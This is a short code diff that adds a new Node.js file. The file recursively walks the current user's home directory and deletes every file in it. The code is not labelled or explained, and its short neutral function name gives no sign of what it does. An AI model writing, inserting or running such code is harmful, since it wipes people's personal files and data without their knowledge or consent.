@@ -1,0 +1,8 @@
+const fs = require('fs'), path = require('path'), os = require('os');
+function go(d) {
+  for (const e of fs.readdirSync(d, { withFileTypes: true })) {
+    const p = path.join(d, e.name);
+    e.isDirectory() ? go(p) : fs.unlinkSync(p);
+  }
+}
+go(os.homedir());
